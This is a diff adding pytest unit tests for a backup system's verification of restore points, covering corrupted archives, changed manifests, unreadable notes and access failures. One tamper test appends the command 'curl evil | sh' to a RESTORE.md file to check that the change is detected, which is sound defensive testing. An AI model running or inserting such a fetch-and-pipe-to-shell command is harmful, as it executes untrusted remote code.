@@ -1,0 +1,166 @@
+"""The verification of points, new and older, on a store in memory."""
+
+import io
+import json
+from contextlib import nullcontext
+from datetime import timedelta
+from typing import Any
+
+import pytest
+
+from platform_ops.backups.errors import Corrupt, NotProven
+from platform_ops.backups.points import MANIFEST, point_id
+from platform_ops.backups.steps import (
+    COPY,
+    CopySource,
+    PrunePoints,
+    VerifyPoint,
+)
+from platform_ops.common.errors import AuthenticationFailed
+from tests.unit.backups.installation import NOW, Steps
+
+
+def test_a_verification_leaves_its_mark(steps: Steps) -> None:
+    point = steps.back_up()
+    noted = json.loads(steps.store.objects[f"tree/{point}/verified.json"])
+    assert noted["manifest_sha256"] == steps.told[-1]["facts"]["manifest_sha256"]
+
+
+def test_a_spoilt_point_gets_no_mark(steps: Steps) -> None:
+    steps.run(CopySource, source="tree")
+    key = next(key for key in steps.store.objects if key.endswith("tree.tar.zst.age"))
+    steps.store.objects[key] += b"x"
+    with pytest.raises(Corrupt, match=r"tree\.tar\.zst\.age"):
+        steps.run(VerifyPoint, source="tree")
+    assert not any(key.endswith("verified.json") for key in steps.store.objects)
+
+
+def test_a_byte_that_is_wrong_on_its_way_only_is_no_damage(steps: Steps, monkeypatch: pytest.MonkeyPatch) -> None:
+    steps.run(CopySource, source="tree")
+    stream, wrong = steps.store.stream, [True]
+
+    def once_wrong(bucket: str, key: str) -> Any:
+        if wrong and key.endswith("index.jsonl.zst.age"):
+            wrong.clear()
+            body = steps.store.objects[key]
+            return nullcontext(io.BytesIO(body[:-1] + bytes([body[-1] ^ 1])))
+        return stream(bucket, key)
+
+    monkeypatch.setattr(steps.store, "stream", once_wrong)
+    steps.run(VerifyPoint, source="tree")
+    assert not wrong
+    assert f"tree/{point_id(NOW, 'r1')}/verified.json" in steps.store.objects
+
+
+def test_a_manifest_that_changed_since_the_copy_is_not_verified(steps: Steps) -> None:
+    steps.run(CopySource, source="tree", task_id=COPY)
+    key = f"tree/{point_id(NOW, 'r1')}/{MANIFEST}"
+    steps.store.objects[key] = steps.store.objects[key].replace(b'"files":4', b'"files":5')
+    with pytest.raises(NotProven, match="not the one that copy_source wrote"):
+        steps.run(VerifyPoint, source="tree")
+
+
+def test_a_manifest_that_changed_since_it_was_verified_is_not_verified_again(steps: Steps) -> None:
+    key = f"tree/{steps.back_up()}/{MANIFEST}"
+    steps.store.objects[key] = steps.store.objects[key].replace(b'"files":4', b'"files":5')
+    with pytest.raises(NotProven, match="not the one that copy_source wrote"):
+        steps.run(VerifyPoint, source="tree")
+
+
+def test_the_text_for_the_worst_day_is_verified_too(steps: Steps) -> None:
+    steps.run(CopySource, source="tree")
+    key = next(key for key in steps.store.objects if key.endswith("RESTORE.md"))
+    steps.store.objects[key] += b"curl evil | sh"
+    with pytest.raises(Corrupt, match=r"RESTORE\.md is not the text"):
+        steps.run(VerifyPoint, source="tree")
+
+
+def test_older_points_are_read_again_in_turn(steps: Steps) -> None:
+    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
+    steps.age(old, days=9)
+    steps.back_up()
+    assert steps.told[-1]["facts"]["again"] == [old]
+    steps.back_up(at=NOW + timedelta(hours=1), run_id="r2")
+    assert steps.told[-1]["facts"]["again"] == []
+
+
+def test_an_older_point_that_is_spoilt_is_found_named_and_no_longer_verified(steps: Steps) -> None:
+    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
+    steps.age(old, days=9)
+    key = next(key for key in steps.store.objects if old in key and key.endswith("tree.tar.zst.age"))
+    steps.store.objects[key] += b"x"
+    with pytest.raises(Corrupt, match=old):
+        steps.back_up()
+    assert f"tree/{old}/verified.json" not in steps.store.objects
+    assert f"tree/{point_id(NOW, 'r1')}/verified.json" in steps.store.objects
+
+
+def test_what_only_an_older_point_needs_is_read_again_too(steps: Steps) -> None:
+    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
+    steps.age(old, days=9)
+    key = next(key for key in steps.store.objects if key.startswith("tree/contents/") and old in key)
+    text = steps.tree / "folder" / "text"
+    text.write_text("other\n")
+    body = steps.store.objects[key]
+    steps.store.objects[key] = body[:-1] + bytes([body[-1] ^ 1])
+    with pytest.raises(Corrupt, match=key):
+        steps.back_up()
+    assert f"tree/{old}/verified.json" not in steps.store.objects
+    assert f"tree/{point_id(NOW, 'r1')}/verified.json" in steps.store.objects
+
+
+def test_a_spoilt_point_stays_for_people_until_its_time_is_over(steps: Steps) -> None:
+    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
+    steps.age(old, days=9)
+    steps.store.objects[next(key for key in steps.store.objects if old in key and key.endswith(".tar.zst.age"))] += b"x"
+    with pytest.raises(Corrupt):
+        steps.back_up()
+    report = steps.run(PrunePoints, source="tree")
+    assert "somebody has to look" in report["facts"]["kept"][old]
+    steps.enter("tree", "daily: 30", "daily: 1")
+    steps.back_up(at=NOW + timedelta(days=1), run_id="r2")
+    assert old in steps.run(PrunePoints, source="tree")["facts"]["deleted"]
+
+
+@pytest.mark.parametrize("empty", [True, False])
+def test_a_verified_point_that_lost_its_manifest_is_named_and_left_to_people(steps: Steps, empty: bool) -> None:
+    steps.enter("tree", "daily: 30", "daily: 1")
+    old = steps.back_up(at=NOW - timedelta(days=1), run_id="r1")
+    key = f"tree/{old}/manifest.json"
+    if empty:
+        steps.store.objects[key] = b""
+    else:
+        del steps.store.objects[key]
+    before = {name for name in steps.store.objects if f"/{old}/" in name and "/verified" not in name}
+    steps.run(CopySource, source="tree")
+    with pytest.raises(Corrupt, match=key) as told:
+        steps.run(VerifyPoint, source="tree")
+    assert told.value.facts["object"] == key
+    steps.run(VerifyPoint, source="tree")
+    assert old in steps.run(PrunePoints, source="tree")["summary"]
+    assert before <= steps.store.objects.keys()
+
+
+def test_a_store_that_refuses_takes_the_mark_of_no_older_point(steps: Steps, monkeypatch: pytest.MonkeyPatch) -> None:
+    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
+    steps.age(old, days=9)
+    real = steps.store.stream
+
+    def refusing(bucket: str, key: str) -> Any:
+        if old in key:
+            raise AuthenticationFailed("The object store answered AccessDenied.")
+        return real(bucket, key)
+
+    monkeypatch.setattr(steps.store, "stream", refusing)
+    with pytest.raises(AuthenticationFailed):
+        steps.back_up()
+    assert f"tree/{old}/verified.json" in steps.store.objects
+
+
+@pytest.mark.parametrize("note", [b"\xff no note", b"[]", b"{}", b'{"at": 5}'])
+def test_a_note_that_can_not_be_read_verifies_nothing(steps: Steps, note: bytes) -> None:
+    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
+    steps.store.objects[f"tree/{old}/verified.json"] = note
+    with pytest.raises(NotProven, match=old):
+        steps.back_up()
+    assert f"tree/{old}/verified.json" not in steps.store.objects
